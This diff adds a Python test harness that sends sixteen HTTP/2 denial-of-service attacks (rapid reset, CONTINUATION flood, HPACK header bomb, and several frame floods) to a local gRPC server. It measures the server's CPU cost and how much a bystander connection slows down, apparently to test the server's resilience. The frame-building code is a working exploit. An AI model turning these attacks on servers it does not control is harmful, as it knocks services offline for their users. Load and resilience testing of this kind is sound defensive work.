@@ -1,0 +1,231 @@
+"""Attacks on a gRPC port, frame by frame: called by attack_http2.sh.
+
+attack_http2.py PORT PID COUNT [NAME...]
+
+Each attack has a connection of its own and sends what it has until it is cut off or has sent all of it. A line for
+each: its name, how it ended (goaway, closed or open), the seconds of processor time that it cost the server, the
+slowest call of another connection meanwhile in seconds, and how many calls that made and how many of them failed.
+"""
+import os
+import select
+import socket
+import struct
+import sys
+import threading
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def text(value):
+    assert len(value) < 127
+    return bytes([len(value)]) + value
+
+
+HEALTH = (b"\x83\x86\x04" + text(b"/grpc.health.v1.Health/Check") + b"\x01" + text(b"x")
+          + b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))
+EMPTY_MESSAGE = bytes(5)
+
+
+def streams(count):
+    return range(1, 2 * count, 2)
+
+
+def rapid_reset(count):
+    for stream in streams(count):
+        yield frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(RESET, 0, stream, struct.pack(">I", 8))
+
+
+def made_to_reset(payload):
+    def attack(count):
+        for stream in streams(count):
+            yield frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(WINDOW_UPDATE, 0, stream, payload)
+    return attack
+
+
+def data_after_the_end(count):
+    for stream in streams(count):
+        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, HEALTH) + frame(DATA, 0, stream, b"x")
+
+
+def half_priorities(count):  # of a wrong size: each resets its stream
+    for stream in streams(count):
+        yield frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(PRIORITY, 0, stream, b"xxxx")
+
+
+def continuations(payload):
+    def attack(count):
+        yield frame(HEADERS, 0, 1, HEALTH)
+        for _ in range(count):
+            yield frame(CONTINUATION, 0, 1, payload)
+    return attack
+
+
+def header_bomb(count):  # one large field is remembered, and named by one byte from then on
+    large = b"\x40" + text(b"bomb") + b"\x7f\x80\x1e" + 3967 * b"x"
+    yield frame(HEADERS, END_HEADERS, 1, HEALTH + large)
+    for stream in streams(count // 20):
+        yield frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, HEALTH + 16000 * b"\xbe")
+
+
+def huge_headers(count):
+    block = b"".join(b"\x00" + text(b"name") + text(120 * b"v") for _ in range(120))
+    for stream in streams(count // 100):
+        yield frame(HEADERS, 0, stream, HEALTH)
+        for _ in range(3):
+            yield frame(CONTINUATION, 0, stream, block)
+        yield frame(CONTINUATION, END_HEADERS, stream, block)
+
+
+def many(one):
+    def attack(count):
+        for _ in range(count // 100):
+            yield 100 * one
+    return attack
+
+
+def pieces_of_nothing(one):
+    def attack(count):
+        yield frame(HEADERS, END_HEADERS, 1, HEALTH)
+        yield from many(one)(count)
+    return attack
+
+
+ATTACKS = {
+    "rapid reset": rapid_reset,
+    "made to reset by WINDOW_UPDATE 0": made_to_reset(struct.pack(">I", 0)),
+    "made to reset by a window that overflows": made_to_reset(struct.pack(">I", 0x7FFFFFFF)),
+    "made to reset by PRIORITY": half_priorities,
+    "DATA after the end": data_after_the_end,
+    "CONTINUATION flood": continuations(b""),
+    "CONTINUATION flood, a byte each": continuations(b"\x82"),
+    "header bomb": header_bomb,
+    "huge headers": huge_headers,
+    "SETTINGS flood": many(frame(SETTINGS, 0, 0)),
+    "PING flood": many(frame(PING, 0, 0, 8 * b"p")),
+    "PRIORITY flood": many(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1))),
+    "WINDOW_UPDATE flood": many(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
+    "WINDOW_UPDATE 0": many(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))),
+    "empty DATA flood": pieces_of_nothing(frame(DATA, 0, 1)),
+    "unknown frames": many(frame(0xBB, 0, 0, b"?")),
+}
+
+
+class Peer:
+    """A connection, and what came on it: the kinds of frames."""
+
+    def __init__(self, port):
+        self.socket = socket.create_connection(("127.0.0.1", port))
+        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        self.socket.setblocking(False)
+        self.pending = b""
+        self.kinds = set()
+        self.ended = set()  # streams
+        self.is_closed = False
+
+    def read(self):
+        try:
+            some = self.socket.recv(1 << 20)
+        except BlockingIOError:
+            return
+        except OSError:
+            some = b""
+        self.is_closed = self.is_closed or not some
+        self.pending += some
+        while len(self.pending) >= 9:
+            size = int.from_bytes(self.pending[:3], "big")
+            if len(self.pending) < 9 + size:
+                return
+            kind, flags = self.pending[3], self.pending[4]
+            self.kinds.add(kind)
+            if kind in (DATA, HEADERS) and flags & END_STREAM:
+                self.ended.add(int.from_bytes(self.pending[5:9], "big"))
+            self.pending = self.pending[9 + size:]
+
+    # False once nothing more can be sent.
+    def send(self, data):
+        while data:
+            _, writable, _ = select.select([self.socket], [self.socket], [], 5)
+            self.read()
+            if self.is_closed or GOAWAY in self.kinds or not writable:
+                return False
+            try:
+                data = data[self.socket.send(data):]
+            except BlockingIOError:
+                pass
+            except OSError:
+                self.is_closed = True
+                return False
+        return True
+
+    def until(self, condition, seconds):
+        end = time.monotonic() + seconds
+        while not condition() and not self.is_closed and time.monotonic() < end:
+            select.select([self.socket], [], [], 0.05)
+            self.read()
+        return condition()
+
+
+class Bystander(threading.Thread):
+    """Calls on a connection of its own, one after the other."""
+
+    def __init__(self, port):
+        super().__init__(daemon=True)
+        self.peer = Peer(port)
+        self.slowest = 0.0
+        self.calls = self.failed = 0
+        self.is_over = False
+
+    def run(self):
+        stream = 1
+        while not self.is_over:
+            began = time.monotonic()
+            self.peer.send(frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))
+            if not self.peer.until(lambda: stream in self.peer.ended, 10):
+                self.failed += 1
+            self.calls += 1
+            self.slowest = max(self.slowest, time.monotonic() - began)
+            stream += 2
+            time.sleep(0.005)
+
+
+def processor_seconds(pid):
+    with open(f"/proc/{pid}/stat") as stat:
+        fields = stat.read().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def run(name, port, pid, count):
+    bystander = Bystander(port)
+    bystander.start()
+    before = processor_seconds(pid)
+    peer = Peer(port)
+    batch = b""
+    for piece in ATTACKS[name](count):
+        batch += piece
+        if len(batch) < 32768:
+            continue
+        if not peer.send(batch):
+            break
+        batch = b""
+    else:
+        peer.send(batch)
+    peer.until(lambda: GOAWAY in peer.kinds, 3)
+    ended = "goaway" if GOAWAY in peer.kinds else "closed" if peer.is_closed else "open"
+    spent = processor_seconds(pid) - before
+    bystander.is_over = True
+    bystander.join()
+    peer.socket.close()
+    print(f"{name}\t{ended}\t{spent:.2f}\t{bystander.slowest:.3f}\t{bystander.calls}\t{bystander.failed}", flush=True)
+
+
+if __name__ == "__main__":
+    for attack in sys.argv[4:] or ATTACKS:
+        run(attack, int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]))
